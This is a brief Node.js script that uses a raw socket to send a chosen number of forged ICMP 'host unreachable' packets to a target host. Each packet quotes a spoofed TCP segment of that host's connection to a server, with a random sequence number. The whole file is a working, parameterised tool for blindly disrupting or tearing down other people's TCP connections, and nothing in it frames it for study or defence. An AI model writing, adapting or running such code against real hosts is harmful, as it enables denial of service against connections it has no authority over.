// Sends ICMP host unreachable to a host, quoting segments of one of its connections with random sequence numbers.
import raw from 'raw-socket';

const [host, server, port, serverPort, count] = process.argv.slice(2);
const socket = raw.createSocket({ protocol: raw.Protocol.ICMP });
socket.on('error', () => {});
let left = Number(count);

function message() {
  const bytes = Buffer.alloc(36);
  bytes.set([3, 1], 0);
  bytes.set([0x45, 0, 0, 60, 0, 0, 0x40, 0, 63, 6], 8);
  bytes.set(host.split('.').map(Number), 20);
  bytes.set(server.split('.').map(Number), 24);
  bytes.writeUInt16BE(Number(port), 28);
  bytes.writeUInt16BE(Number(serverPort), 30);
  bytes.writeUInt32BE(Math.floor(Math.random() * 2 ** 32), 32);
  raw.writeChecksum(bytes, 2, raw.createChecksum(bytes));
  return bytes;
}

function next() {
  if (left-- === 0) process.exit(0);
  const bytes = message();
  socket.send(bytes, 0, bytes.length, host, () => setTimeout(next, 20));
}
next();
